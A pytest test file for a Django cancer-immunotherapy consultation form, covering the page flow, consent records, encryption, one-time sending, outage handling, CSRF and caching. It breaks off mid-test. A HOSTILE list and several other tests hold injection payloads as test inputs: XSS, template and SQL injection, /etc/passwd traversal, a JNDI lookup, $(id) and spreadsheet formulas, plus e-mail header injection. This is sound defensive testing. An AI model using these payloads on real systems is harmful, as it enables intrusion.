"""The journey of a patient: page by page, back and forth, and never sent twice or lost."""

from __future__ import annotations

import datetime
import hashlib
import html
import itertools
import json
import re
from concurrent.futures import ThreadPoolExecutor

import pytest
from django.conf import settings
from django.contrib.auth.models import User
from django.contrib.sites.models import Site
from django.db import OperationalError, connection
from django.db.backends.base.base import BaseDatabaseWrapper
from django.test import override_settings
from django.utils import timezone
from django.utils.translation import override

from content.models import Sign, SignText, SiteProfile
from immuno_site.consultations import forms, guard, mail, sending, spam
from immuno_site.consultations.models import (
    AccessEvent,
    ConsultationRequest,
    OutgoingMail,
    Progress,
    RateCounter,
)
from immuno_site.consultations.reference import PATTERN, is_return_code
from tests.consultations.factories import NOW
from tests.consultations.visitor import ANSWERS, Visitor, text_of

pytestmark = pytest.mark.django_db
PAGES = ["about", "question", "tests", "contact", "consent"]


@pytest.fixture
def anna(library: None) -> Visitor:
    return Visitor()


def stored() -> ConsultationRequest:
    return ConsultationRequest.objects.get()


# --- From the start to "received" -----------------------------------------------------------------------


def test_journey_from_start_to_received(anna: Visitor) -> None:
    assert "This is not an emergency service" in text_of(anna.get("/consultation/"))
    assert anna.begin().headers["Location"] == "/consultation/help-now/"
    assert 'href="/consultation/about/"' in text_of(anna.get("/consultation/help-now/"))
    assert anna.answer("about").headers["Location"] == "/consultation/question/"
    assert anna.answer("question").headers["Location"] == "/consultation/tests/"
    assert anna.answer("tests").headers["Location"] == "/consultation/documents/"
    assert anna.go_on_without_files().headers["Location"] == "/consultation/contact/"
    assert anna.answer("contact").headers["Location"] == "/consultation/consent/"
    assert anna.answer("consent").headers["Location"] == "/consultation/check/"
    assert "Nothing is sent yet." in text_of(anna.get("/consultation/check/"))
    assert not ConsultationRequest.objects.exists()
    assert anna.send().headers["Location"] == "/consultation/received/"
    page = text_of(anna.get("/consultation/received/"))
    assert stored().reference in page
    assert "We have received your request" in page


def test_everything_typed_is_stored_as_it_was(anna: Visitor) -> None:
    anna.send_all()
    request = stored()
    assert PATTERN.fullmatch(request.reference)
    assert request.question == "What can I do?\nAnd when?"
    assert (request.name, request.email, request.phone) == ("Anna", "anna@example.org", "+1 555 010 0000")
    assert (request.cancer, request.stage, request.birth_year, request.country) == (
        "melanoma",
        "stage 3",
        "1962",
        "US",
    )
    assert request.tests == {"pd_l1": "have"}
    assert (request.for_whom, request.treatments, request.may_share) == ("me", "Surgery in May.", False)
    assert (request.kind, request.language, request.status) == ("consultation", "en", "new")


def test_consent_is_stored_as_it_was_given(anna: Visitor, monkeypatch: pytest.MonkeyPatch) -> None:
    """When the box was ticked, in the language and version that was read then; not when and where it is sent."""
    anna.answer_all()
    anna.answer("consent", consent_share="yes")
    ticked_at = timezone.now()
    monkeypatch.setattr("django.utils.timezone.now", lambda: ticked_at + datetime.timedelta(hours=2))
    monkeypatch.setattr("immuno_site.consultations.views.asking.CONSENT_VERSION", "later")
    anna.post("/he/consultation/check/", {"more_words": ""})
    request = stored()
    assert (request.consent_version, request.consent_language) == (forms.CONSENT_VERSION, "en")
    assert ticked_at - datetime.timedelta(minutes=1) < request.consented_at <= ticked_at
    assert request.received_at > ticked_at + datetime.timedelta(hours=1)
    assert request.may_share is True


def test_consent_given_on_a_page_of_the_release_before_counts_from_sending(anna: Visitor) -> None:
    anna.answer_all()
    Progress.objects.get().keep("consent", {"consent_use": True, "consent_share": False})
    anna.send()
    assert stored().consented_at == stored().received_at


def test_consent_texts_change_only_with_their_version() -> None:
    """If this fails, give CONSENT_VERSION a new value and write the new digest here."""
    texts = []
    for code, _name in settings.LANGUAGES:
        with override(code):
            texts += [str(text) for text in (forms.CONSENT_USE, forms.CONSENT_SHARE, forms.CONSENT_CALL)]
    digest = hashlib.sha256("\n".join(texts).encode()).hexdigest()[:16]
    assert (forms.CONSENT_VERSION, digest) == ("2026-11", "0292840be5aa28fe")


def test_received_page_shows_reference_code_and_date(anna: Visitor) -> None:
    page = anna.send_all()
    request = stored()
    due = timezone.localtime(request.reply_due_at)
    assert f"{due:%A, %B} {due.day}, {due:%Y, %H:%M}" in text_of(page)
    (code,) = [word for word in page.context["code"].split() if word]
    assert is_return_code(code, request.form_id)
    assert code in text_of(page)


def test_letters_wait_in_the_same_transaction(anna: Visitor) -> None:
    anna.send_all()
    letters = {mail.kind: mail for mail in OutgoingMail.objects.all()}
    assert set(letters) == {"receipt", "new_request"}
    assert letters["receipt"].recipient == "anna@example.org"
    assert {mail.reference for mail in letters.values()} == {stored().reference}
    assert [event.action for event in AccessEvent.objects.filter(reference=stored().reference)] == [
        "received"
    ]


def test_patient_without_email_gets_no_letter(anna: Visitor) -> None:
    anna.send_all(email="", contact_by="phone")
    assert [mail.kind for mail in OutgoingMail.objects.all()] == ["new_request"]


def test_help_page_names_what_cannot_wait_whatever_the_treatment(anna: Visitor) -> None:
    page = text_of(anna.get("/consultation/help-now/"))
    emergency = page.split("care-emergency")[1].split("</section>")[0]
    known = Sign.objects.approved().filter(without_treatment=True, levels__group="other")
    told = [SignText.objects.get(sign=sign, language="en").words for sign in known]
    assert {"Chest pain, or a tight or heavy chest"} < set(told)
    assert [words for words in told if words not in emergency] == []


def test_help_page_names_those_who_may_wait_longer(anna: Visitor) -> None:
    page = text_of(anna.get("/consultation/help-now/"))
    emergency, same_day = page.split("care-same_day")
    for box, whom in ((emergency, "unless"), (same_day, "if")):
        (fever,) = (
            line for line in box.split("<li>") if line.startswith("A temperature of 38 °C (100.4 °F) or")
        )
        assert f"<strong>{whom} your only treatment is a checkpoint inhibitor, BCG" in fever


def test_lay_words_of_the_list_put_a_request_on_top(anna: Visitor) -> None:
    anna.send_all(question="Since noon I feel a squeezing chest when I walk.")
    assert stored().is_urgent


def test_urgent_words_put_a_request_on_top(anna: Visitor) -> None:
    anna.send_all(question="I have chest pain since this morning.")
    assert stored().is_urgent


def test_urgent_words_of_a_first_request_are_told_at_once_to_both_sides(
    anna: Visitor, coordinator: User
) -> None:
    page = text_of(anna.send_all(question="I have chest pain since this morning."))
    assert {row.kind for row in OutgoingMail.objects.all()} == {"cannot_wait", "receipt"}
    assert mail.letter(OutgoingMail.objects.get(kind="cannot_wait")).subject.startswith("Cannot wait: IM-")
    assert "Do not wait for our answer" in page


def test_calm_words_warn_nobody(anna: Visitor) -> None:
    assert "Do not wait for our answer" not in text_of(anna.send_all())


def test_check_page_shows_every_answer_with_a_way_to_change_it(anna: Visitor) -> None:
    anna.answer_all()
    page = text_of(anna.get("/consultation/check/"))
    for shown in ("Me", "Melanoma", "stage 3", "United States", "1962", "And when?", "Surgery in May.",
                  "I have the result", "Anna", "anna@example.org", "By e-mail", "English", "Yes"):  # fmt: skip
        assert shown in page
    for name in PAGES:
        assert f'href="/consultation/{name}/"' in page


def test_check_page_leaves_out_what_does_not_apply(anna: Visitor) -> None:
    anna.answer_all()
    assert "somebody else" not in text_of(anna.get("/consultation/check/"))
    anna.answer("about", for_whom="relative", patient_agrees="yes")
    assert "somebody else" in text_of(anna.get("/consultation/check/"))


def test_change_leads_back_to_the_check_page(anna: Visitor) -> None:
    anna.answer_all()
    assert 'value="stage 3"' in text_of(anna.get("/consultation/about/"))
    assert anna.answer("about", stage="stage 4").headers["Location"] == "/consultation/check/"
    anna.send()
    assert stored().stage == "stage 4"


def test_two_tabs_do_not_overwrite_each_other(anna: Visitor) -> None:
    anna.begin()
    progress = Progress.objects.get()
    stale = Progress.objects.get()
    progress.keep("about", {"stage": "one"})
    stale.keep("question", {"question": "two"})
    assert set(Progress.objects.get().answers) == {"about", "question"}


@pytest.mark.parametrize(
    ("about", "address", "shown"),
    [
        ("cancer:melanoma", "/consultation/about/", '<option value="melanoma" selected>'),
        ("drug:pembrolizumab", "/consultation/question/", 'value="Pembrolizumab"'),
    ],
)
def test_page_somebody_came_from_is_filled_in(anna: Visitor, about: str, address: str, shown: str) -> None:
    assert f'value="{about}"' in text_of(anna.get(f"/consultation/?about={about}"))
    anna.begin(about)
    assert shown.lower() in text_of(anna.get(address)).lower()


@pytest.mark.parametrize(
    ("page", "address", "shown"),
    [
        ("/cancers/melanoma/", "/consultation/about/", '<option value="melanoma" selected>'),
        ("/drugs/pembrolizumab/", "/consultation/question/", 'value="Pembrolizumab"'),
    ],
)
def test_button_of_an_entry_page_brings_along_what_was_read(
    anna: Visitor, page: str, address: str, shown: str
) -> None:
    text = text_of(anna.get(page))
    call = text[text.index('class="consultation-call"') :]
    begin = html.unescape(re.search(r'class="button" href="([^"]+)"', call)[1])
    about = re.search(r'name="about" value="([^"]+)"', text_of(anna.get(begin)))[1]
    anna.begin(about)
    assert shown.lower() in text_of(anna.get(address)).lower()


@pytest.mark.parametrize(
    "about", ["drug:unknown-drug", "drug:", "x:y", "<script>", "cancer:melanoma:x", "\x00"]
)
def test_unknown_page_is_not_taken_over(anna: Visitor, about: str) -> None:
    page = anna.get("/consultation/", {"about": about})
    assert 'name="about" value=""' in text_of(page)
    anna.begin(about)
    assert Progress.objects.get().answers == {}


def test_each_page_says_where_back_leads(anna: Visitor) -> None:
    anna.begin()
    trail = ["help-now", *PAGES[:3], "documents", *PAGES[3:]]
    for earlier, later in itertools.pairwise(trail):
        assert f'href="/consultation/{earlier}/"' in text_of(anna.get(f"/consultation/{later}/"))


def test_journey_in_another_language(anna: Visitor) -> None:
    anna.answer_all()
    anna.post("/he/consultation/consent/", ANSWERS["consent"])
    anna.post("/he/consultation/check/", {})
    assert stored().consent_language == "he"


# --- What is kept, and for how long ---------------------------------------------------------------------


def test_cookie_is_for_this_site_only_and_unreadable_for_scripts(anna: Visitor) -> None:
    cookie = anna.begin().cookies["__Host-request"]
    assert (cookie["secure"], cookie["httponly"], cookie["samesite"]) == (True, True, "Lax")
    assert (cookie["path"], cookie["domain"], cookie["max-age"]) == ("/", "", 86_400)
    assert cookie.value not in str(Progress.objects.values().get())


@override_settings(SESSION_COOKIE_SECURE=False)
def test_cookie_has_a_plain_name_on_http(anna: Visitor) -> None:
    assert "request" in anna.begin().cookies


def test_answers_on_their_way_are_encrypted(anna: Visitor) -> None:
    anna.answer_all()
    with connection.cursor() as cursor:
        cursor.execute("SELECT answers FROM consultations_progress")
        assert "Anna" not in cursor.fetchone()[0]


def test_answers_are_gone_from_the_progress_once_sent(anna: Visitor) -> None:
    anna.send_all()
    assert Progress.objects.get().answers == {}


def test_forgetting_erases_what_was_not_sent(anna: Visitor) -> None:
    anna.answer_all()
    assert anna.post("/consultation/forget/").headers["Location"] == "/consultation/forgotten/"
    assert not Progress.objects.exists()
    assert anna.get("/consultation/check/").headers["Location"] == "/consultation/"
    assert anna.get("/consultation/forgotten/").status_code == 200


def test_next_person_at_the_device_begins_anew(anna: Visitor) -> None:
    page = text_of(anna.send_all())
    assert all(word in page for word in ("Copy both", "Save as a file", 'data-key="Reference: IM-'))
    assert "Begin anew" in text_of(anna.get("/consultation/"))
    assert anna.post("/consultation/forget/", {"anew": "yes"}).headers["Location"] == "/consultation/"
    page = text_of(anna.get("/consultation/"))
    assert "Begin anew" not in page
    assert stored().reference not in page


def test_forgetting_keeps_what_was_sent(anna: Visitor) -> None:
    anna.send_all()
    anna.post("/consultation/forget/")
    assert anna.get("/consultation/received/").headers["Location"] == "/consultation/"
    assert ConsultationRequest.objects.count() == 1


@pytest.mark.parametrize(
    "address", ["about", "question", "tests", "documents", "contact", "consent", "check", "received"]
)
def test_pages_without_a_start_lead_to_the_start(anna: Visitor, address: str) -> None:
    assert anna.get(f"/consultation/{address}/").headers["Location"] == "/consultation/"


def test_nobody_reads_answers_without_the_cookie(anna: Visitor) -> None:
    anna.send_all()
    stranger = Visitor()
    stranger.cookies["__Host-request"] = "guessed"
    assert stranger.get("/consultation/received/").headers["Location"] == "/consultation/"


# --- Refusals: what to do is said, what was typed stays ----------------------------------------------------


def refused(page: object, *sentences: str) -> str:
    """422, the error in the title, in the summary and at the field."""
    assert page.status_code == 422
    text = text_of(page)
    assert "<title>Error:" in text
    for sentence in sentences:
        assert text.count(sentence) == 2, sentence
    return text


@pytest.mark.corpus("F1")
@pytest.mark.parametrize("name", ["about", "question", "contact", "consent"])
def test_f1_empty_page_is_refused(anna: Visitor, name: str) -> None:
    anna.begin()
    page = anna.post(f"/consultation/{name}/", {})
    assert 'class="error-summary"' in refused(page)
    assert Progress.objects.get().answers == {}
    assert not ConsultationRequest.objects.exists()


@pytest.mark.corpus("F2")
def test_f2_nothing_is_sent_without_consent(anna: Visitor) -> None:
    anna.begin()
    refused(anna.answer("consent", consent_use=""), "Tick this box if you want us to answer.")
    anna.answer_all()
    Progress.objects.get().keep("consent", {"consent_use": False, "consent_share": True})
    assert anna.send().headers["Location"] == "/consultation/consent/"
    assert not ConsultationRequest.objects.exists()


@pytest.mark.corpus("F3", "F4")
def test_f3_f4_too_long_is_refused_and_kept(anna: Visitor) -> None:
    anna.begin()
    assert "n" * 201 in refused(anna.answer("contact", name="n" * 201), "This name has 201 characters.")
    assert "x" * 20_001 in refused(anna.answer("question", question="x" * 20_001), "has 20001 characters")


@pytest.mark.corpus("F5")
def test_f5_longest_story_is_stored_whole(anna: Visitor) -> None:
    anna.send_all(question="🧬" * 20_000)
    assert stored().question == "🧬" * 20_000


@pytest.mark.corpus("F6")
@pytest.mark.parametrize("page", ["about", "question", "tests", "contact", "consent"])
def test_f6_nul_in_any_field_is_dropped(anna: Visitor, page: str) -> None:
    """A choice with one is none of the choices."""
    anna.begin()
    for name, value in ANSWERS[page].items():
        assert anna.answer(page, **{name: f"{value}\x00"}).status_code in (302, 422), name
        assert "\\u0000" not in json.dumps(Progress.objects.get().answers), name


@pytest.mark.corpus("F7")
def test_f7_bytes_that_are_no_text_are_refused(anna: Visitor) -> None:
    anna.begin()
    for wrong in (b"%ff%fe", b"%ed%a0%80", b"\xc3\x28"):
        page = anna.generic(
            "POST",
            "/consultation/question/",
            b"question=" + wrong,
            content_type="application/x-www-form-urlencoded",
        )
        assert page.status_code in (400, 422)


@pytest.mark.corpus("F8")
def test_f8_override_of_direction_cannot_turn_the_rest_of_the_page(anna: Visitor) -> None:
    anna.answer_all(name="Anna \u202egro.live")
    assert "<bdi>Anna \u202egro.live</bdi>" in text_of(anna.get("/consultation/check/"))
    anna.send()
    assert stored().name == "Anna \u202egro.live"


@pytest.mark.corpus("F9")
@pytest.mark.parametrize("text", ["שאלה על הטיפול", "سؤال عن العلاج", "Вопрос о лечении", "关于治疗的问题"])
def test_f9_every_script_is_stored_as_it_was_typed(anna: Visitor, text: str) -> None:
    anna.send_all(question=text, name=text)
    assert (stored().question, stored().name) == (text, text)


@pytest.mark.corpus("F10", "F11", "F12")
def test_f10_f11_f12_unusable_contact_is_refused_and_kept(anna: Visitor) -> None:
    anna.begin()
    page = anna.answer("contact", email="a@b", phone="call me")
    text = refused(page, "a whole name is needed", "Enter a phone number with its country code")
    assert 'value="a@b"' in text
    assert 'value="call me"' in text
    refused(anna.answer("contact", email="an\u200bna@example.org"), "invisible or foreign letters")


@pytest.mark.corpus("F13")
def test_f13_unknown_country_or_cancer_is_refused(anna: Visitor) -> None:
    anna.begin()
    page = anna.answer("about", country="XX", cancer="hypochondria", for_whom="boss")
    refused(page, "Choose a country from the list", "Choose a cancer from the list")


@pytest.mark.corpus("F14")
def test_f14_fields_that_are_not_asked_for_are_ignored(anna: Visitor) -> None:
    anna.answer_all()
    anna.answer("contact", is_staff="1", status="closed", id="1", reference="IM-AAAA-AA", owner="1")
    anna.post("/consultation/check/", {"status": "closed", "id": "77", "version": "9"})
    request = stored()
    assert (request.status, request.owner, request.version) == ("new", None, 1)
    assert request.reference != "IM-AAAA-AA"


@pytest.mark.corpus("F15")
def test_f15_line_breaks_in_name_and_email_are_refused(anna: Visitor) -> None:
    anna.begin()
    page = anna.answer(
        "contact", name="Anna\r\nBcc: x@example.org", email="a@example.org\r\nBcc: b@example.org"
    )
    refused(page)
    assert {"name", "email"} <= set(page.context["form"].errors)


@pytest.mark.corpus("F16")
def test_f16_of_a_name_sent_twice_the_last_counts(anna: Visitor) -> None:
    anna.begin()
    anna.answer("question", question=["one", "two"])
    assert Progress.objects.get().answers["question"]["question"] == "two"


@pytest.mark.corpus("F17")
@pytest.mark.parametrize("address", ["/consultation/question/", "/callback/", "/feedback/"])
def test_f17_101_fields_are_refused(anna: Visitor, address: str) -> None:
    anna.begin()
    assert anna.post(address, {f"field-{n}": "x" for n in range(101)}).status_code == 400
    assert anna.post(address, {"field": ["x"] * 101}).status_code == 400


@pytest.mark.corpus("F18")
@pytest.mark.parametrize("kind", ["application/json", "application/xml", "text/plain"])
def test_f18_what_is_not_a_form_is_refused(anna: Visitor, kind: str) -> None:
    for address in ("/consultation/", "/consultation/question/", "/callback/", "/feedback/"):
        assert anna.generic("POST", address, b"{}", content_type=kind).status_code == 415


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "{{7*7}}{% debug %}",
    "' OR 1=1--",
    "../../etc/passwd",
    "${jndi:ldap://x.example/a}",
    "$(id)",
    "=HYPERLINK(\"http://x.example\")",
    "+1", "-1", "@SUM(A1)",
]  # fmt: skip


@pytest.mark.corpus("F20", "F21", "F22", "F23", "F24")
@pytest.mark.parametrize("text", HOSTILE)
def test_f20_to_f24_hostile_text_is_stored_and_shown_as_text(anna: Visitor, text: str) -> None:
    anna.answer_all(question=text, name=text, stage=text, treatments=text)
    more = dict.fromkeys(["medicine_asked", "medicines", "symptoms", "conditions"], text)
    anna.answer("question", question=text, treatments=text, **more)
    anna.answer("contact", name=text, time_zone=text)
    page = anna.get("/consultation/check/").content.decode()
    assert text in text_of(anna.get("/consultation/check/"))
    if "<" in text:
        assert text not in page
    assert "49{" not in page
    anna.send()
    for name in ("question", "name", "stage", "treatments", "time_zone", *more):
        assert getattr(stored(), name) == text, name


def test_relative_needs_the_patients_agreement(anna: Visitor) -> None:
    anna.begin()
    refused(anna.answer("about", for_whom="relative"), "Ask them first, and then tick the box.")
    assert anna.answer("about", for_whom="relative", patient_agrees="yes").status_code == 302


def test_other_cancer_needs_a_word(anna: Visitor) -> None:
    anna.begin()
    refused(anna.answer("about", cancer="other"), "Write which cancer it is.")
    assert anna.answer("about", cancer="other", cancer_words="thymoma").status_code == 302
    assert anna.answer("about", cancer="not-sure").status_code == 302


@pytest.mark.parametrize("year", ["62", "19622", "birthday"])
def test_year_of_birth_is_a_year(anna: Visitor, year: str) -> None:
    anna.begin()
    refused(anna.answer("about", birth_year=year), "Enter a year with four digits")


@pytest.mark.parametrize(
    ("changes", "sentence"),
    [
        ({"email": "", "phone": ""}, "Enter an e-mail address or a phone number"),
        ({"email": ""}, "Enter an e-mail address, or choose another way"),
        ({"phone": "", "contact_by": "phone"}, "Enter a phone number, or choose e-mail"),
    ],
)
def test_way_to_answer_needs_its_address(anna: Visitor, changes: dict[str, str], sentence: str) -> None:
    anna.begin()
    refused(anna.answer("contact", **changes), sentence)


def test_messengers_are_offered_only_if_the_clinic_has_them(anna: Visitor) -> None:
    anna.begin()
    assert "WhatsApp" not in text_of(anna.get("/consultation/contact/"))
    SiteProfile.objects.update_or_create(pk=1, defaults={"whatsapp": "+972 00"})
    assert "WhatsApp" in text_of(anna.get("/consultation/contact/"))
    assert anna.answer("contact", contact_by="whatsapp").status_code == 302


def test_pages_that_are_missing_come_before_sending(anna: Visitor) -> None:
    anna.begin()
    anna.answer("contact")
    assert anna.get("/consultation/check/").headers["Location"] == "/consultation/about/"
    assert anna.send().headers["Location"] == "/consultation/about/"


# --- Once, and only once ----------------------------------------------------------------------------------


@pytest.mark.corpus("D1", "D3")
def test_d1_d3_double_click_reload_and_back_show_the_same_request(anna: Visitor) -> None:
    first = text_of(anna.send_all())
    for _ in range(3):
        assert anna.send().headers["Location"] == "/consultation/received/"
    assert anna.get("/consultation/check/").headers["Location"] == "/consultation/received/"
    assert anna.get("/consultation/question/").headers["Location"] == "/consultation/received/"
    assert stored().reference in text_of(anna.get("/consultation/received/"))
    assert stored().reference in first
    assert OutgoingMail.objects.count() == 2


@pytest.mark.corpus("D4")
def test_d4_another_text_after_sending_can_become_another_request(anna: Visitor) -> None:
    anna.send_all()
    first = stored()
    page = anna.answer("question", question="Something else.")
    assert page.status_code == 409
    assert "Something else." in text_of(page)
    assert first.reference in text_of(page)
    assert stored().question == ANSWERS["question"]["question"]
    assert anna.answer("question", question="Something else.", anew="yes").status_code == 302
    for name in ("about", "tests", "contact", "consent"):
        anna.answer(name)
    anna.go_on_without_files()
    anna.send()
    questions = sorted(request.question for request in ConsultationRequest.objects.all())
    assert questions == ["Something else.", ANSWERS["question"]["question"]]


@pytest.mark.corpus("D5")
@pytest.mark.parametrize("how", ["old", "forged", "none"])
def test_d5_lost_progress_keeps_what_was_typed(anna: Visitor, how: str) -> None:
    anna.begin()
    if how == "old":
        past = timezone.now() - datetime.timedelta(hours=25)
        Progress.objects.update(started_at=past, expires_at=past + datetime.timedelta(hours=24))
    elif how == "forged":
        anna.cookies["__Host-request"] = "forged"
    else:
        anna.cookies.clear()
    page = anna.answer("question", question="My long story.")
    assert page.status_code == 422
    assert "Continue once more" in text_of(page)
    assert "My long story." in text_of(page)
    assert anna.answer("question", question="My long story.").status_code == 302
    assert "My long story." in text_of(anna.get("/consultation/question/"))


@pytest.mark.corpus("D2")
@pytest.mark.django_db(transaction=True)
def test_d2_fifty_parallel_sendings_make_one_request(library: None) -> None:
    anna = Visitor()
    anna.answer_all()

    def send(_number: int) -> str:
        try:
            visitor = Visitor()
            visitor.cookies = anna.cookies
            return visitor.send().headers["Location"]
        finally:
            connection.close()

    with ThreadPoolExecutor(50) as pool:
        places = set(pool.map(send, range(50)))
    assert places == {"/consultation/received/"}
    assert stored().status == "new"
    assert OutgoingMail.objects.count() == 2
    assert [counter.times for counter in RateCounter.objects.filter(times__gt=0)].count(50) == 0


def test_request_stays_whole_when_the_database_fails_half_way(
    anna: Visitor, monkeypatch: pytest.MonkeyPatch
) -> None:
    anna.answer_all()

    def fail(*_args: object, **_kwargs: object) -> None:
        raise OperationalError("disk I/O error: Anna")

    with monkeypatch.context() as broken:
        broken.setattr(sending, "_announce", fail)
        page = anna.send()
    assert page.status_code == 503
    assert not ConsultationRequest.objects.exists()
    assert set(Progress.objects.get().answers) == {*PAGES, "documents"}
    anna.send()
    assert stored().name == "Anna"


@pytest.mark.django_db(transaction=True)
def test_nothing_is_called_received_before_it_is_committed(
    library: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    anna = Visitor()
    anna.answer_all()

    def fail(*_args: object) -> None:
        raise OperationalError("could not write to the log")

    with monkeypatch.context() as broken:
        broken.setattr(BaseDatabaseWrapper, "commit", fail)
        assert anna.send().status_code == 503
    assert not ConsultationRequest.objects.exists()
    assert anna.get("/consultation/received/").headers["Location"] == "/consultation/"
    anna.send()
    assert stored().reference in text_of(anna.get("/consultation/received/"))


def test_answers_erased_in_another_window_lead_to_the_start(
    anna: Visitor, monkeypatch: pytest.MonkeyPatch
) -> None:
    anna.begin()
    keep = Progress.keep

    def erase_first(progress: Progress, *args: object) -> None:
        Progress.objects.all().delete()
        keep(progress, *args)

    monkeypatch.setattr(Progress, "keep", erase_first)
    assert anna.answer("question").headers["Location"] == "/consultation/"


# --- When nothing can be stored -----------------------------------------------------------------------------


@pytest.fixture
def database_away(anna: Visitor, monkeypatch: pytest.MonkeyPatch) -> None:
    """From now on, every query fails."""
    SiteProfile.objects.update_or_create(
        pk=1,
        defaults={"phone": "+972 2 000 0000", "email": "desk@example.org", "whatsapp": "+972 50 000 0000"},
    )
    guard.last_known_profile.get()
    anna.answer_all()

    def fail(*_args: object, **_kwargs: object) -> None:
        raise OperationalError("server closed the connection")

    monkeypatch.setattr(BaseDatabaseWrapper, "cursor", fail)


def test_without_a_database_nothing_is_called_received(anna: Visitor, database_away: None) -> None:
    page = anna.answer("question", question="My long and frightened story.")
    text = text_of(page)
    assert page.status_code == 503
    assert "My long and frightened story." in text
    assert "We did not receive it" in text
    assert "We have received" not in text
    for channel in ("+972 2 000 0000", "desk@example.org", "+972 50 000 0000", "112 in the European Union"):
        assert channel in text
    assert page.headers["Cache-Control"] == "no-store, private"
    assert page.headers["Retry-After"] == "120"
    assert "default-src 'none'" in page.headers["Content-Security-Policy"]


@pytest.mark.parametrize("address", ["/consultation/", "/consultation/check/", "/callback/", "/feedback/"])
def test_without_a_database_every_page_says_so(anna: Visitor, database_away: None, address: str) -> None:
    assert anna.post(address, {"words": "x"}).status_code == 503


def test_x12_worker_that_never_met_the_database_says_so_too(anna: Visitor, database_away: None) -> None:
    Site.objects.clear_cache()
    assert anna.get("/consultation/").status_code == 503
    page = anna.answer("about", cancer="melanoma")  # whose name is in the database
    assert page.status_code == 503
    assert 'name="cancer" value="melanoma"' in text_of(page)


def test_what_was_typed_can_be_sent_again_from_the_error_page(
    anna: Visitor, monkeypatch: pytest.MonkeyPatch
) -> None:
    anna.begin()

    def fail(*_args: object, **_kwargs: object) -> None:
        raise OperationalError

    with monkeypatch.context() as broken:
        broken.setattr(Progress, "keep", fail)
        page = anna.answer("question", question="“Quoted” <story>")
    assert 'name="question" value="“Quoted” <story>"' in text_of(page)
    assert "<story>" not in page.content.decode()


def test_flood_from_one_place_is_told_to_call(anna: Visitor, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("immuno_site.consultations.spam.MOST_PER_HOUR", 1)
    anna.send_all()
    other = Visitor()
    other.answer_all()
    assert other.send().status_code == 429
    assert ConsultationRequest.objects.count() == 1
    assert set(Progress.objects.filter(request=None).get().answers) == {*PAGES, "documents"}


def test_suspected_request_is_received_like_any_other_and_kept_apart(anna: Visitor) -> None:
    anna.answer_all(question="SEO services: " + "https://spam.example " * 4)
    anna.post("/consultation/check/", {"more_words": "https://spam.example"})
    assert "We have received your request" in text_of(anna.get("/consultation/received/"))
    assert (stored().status, stored().suspected_because) == ("suspected", "trap selling links")
    assert {letter.kind for letter in OutgoingMail.objects.all()} == {"suspected_request", "receipt"}


@pytest.mark.parametrize("old_trap", ["website", "more_words"])
def test_trap_that_a_password_manager_filled_in_makes_nobody_suspect(anna: Visitor, old_trap: str) -> None:
    anna.answer_all(question="Is it for me? https://www.nejm.org/doi/1 https://www.esmo.org/x")
    anna.post("/consultation/check/", {old_trap: "https://mine.example" * 100})
    assert stored().status == "new"
    assert {letter.kind for letter in OutgoingMail.objects.all()} == {"new_request", "receipt"}


# --- Sessions, forgery, keeping ---------------------------------------------------------------------------


@pytest.mark.corpus("C1")
@pytest.mark.parametrize("address", ["/consultation/", "/consultation/question/", "/callback/", "/feedback/"])
def test_c1_form_without_its_token_is_refused_and_kept(library: None, address: str) -> None:
    visitor = Visitor(enforce_csrf_checks=True, headers={"Origin": "http://testserver"})
    page = visitor.post(address, {"question": "My long and frightened story."})
    assert page.status_code == 403
    assert "My long and frightened story." in text_of(page)
    assert not Progress.objects.exists()


@pytest.mark.corpus("C2")
def test_c2_form_of_another_site_is_refused(library: None) -> None:
    visitor = Visitor(enforce_csrf_checks=True)
    token = visitor.get("/consultation/").context["csrf_token"]
    for origin in ("https://evil.example", "null", "http://testserver.evil.example"):
        page = visitor.post("/consultation/", {"csrfmiddlewaretoken": token}, headers={"Origin": origin})
        assert page.status_code == 403
    assert not Progress.objects.exists()
    assert visitor.post("/consultation/", {"csrfmiddlewaretoken": token}).status_code == 302


@pytest.mark.corpus("C3")
@pytest.mark.parametrize("address", ["/consultation/forget/", "/consultation/documents/remove/"])
def test_c3_no_change_by_get(anna: Visitor, address: str) -> None:
    anna.answer_all()
    assert anna.get(address).status_code == 405
    assert anna.get("/consultation/check/?more_words=x").status_code == 200
    assert Progress.objects.count() == 1
    assert not ConsultationRequest.objects.exists()


@pytest.mark.corpus("H1")
@pytest.mark.parametrize(
    "address",
    ["/consultation/", "/consultation/help-now/", "/consultation/about/", "/consultation/check/", "/callback/",
     "/consultation/return/", "/feedback/", "/he/consultation/", "/consultation/forget/"],
)  # fmt: skip
def test_h1_personal_pages_are_never_kept(anna: Visitor, address: str) -> None:
    anna.answer_all()
    assert anna.get(address).headers["Cache-Control"] == "no-store, private"


@pytest.mark.corpus("H4")
@pytest.mark.parametrize(
    "address", ["/consultation/x.css", "/consultation/received/x.css", "/callback/a.js", "/feedback/x.png"]
)
def test_h4_personal_page_is_not_served_as_a_file(anna: Visitor, address: str) -> None:
    anna.send_all()
    first, last = anna.get(address), anna.get(address, follow=True)
    assert last.status_code == 404
    for page in (first, last):
        assert page.headers["Cache-Control"] == "no-store, private"
        assert stored().reference not in text_of(page)


def test_visitors_have_no_session(anna: Visitor) -> None:
    anna.send_all()
    assert set(anna.cookies) == {"__Host-request", "__Host-csrftoken"}


def test_no_answer_is_logged(anna: Visitor, caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level("DEBUG"):
        anna.send_all(question="canary-question", name="canary-name", email="canary@example.org")
        anna.post("/consultation/question/", {"question": ""})
    assert "canary" not in caplog.text


def test_progress_does_not_show_its_answers(anna: Visitor) -> None:
    anna.answer_all()
    progress = Progress.objects.get()
    assert "Anna" not in f"{progress} {progress!r}"
    assert json.dumps(progress.answers)


# --- Without end ------------------------------------------------------------------------------------------


def test_asking_anew_is_counted_like_every_start(anna: Visitor, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(spam, "MOST_STARTS_PER_HOUR", 5)
    anna.send_all()
    cookies = anna.cookies.copy()
    answers = []
    for number in range(10):
        anna.cookies = cookies.copy()
        answers.append(anna.answer("question", question=f"Another one {number}", anew="1").status_code)
    assert answers == [302] * 4 + [429] * 6  # the first start was the sent one's
    assert Progress.objects.count() == 5


def test_starts_are_counted_by_the_day_too(anna: Visitor, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(spam, "MOST_STARTS_PER_DAY", 6)
    answers = []
    for hour in range(3):
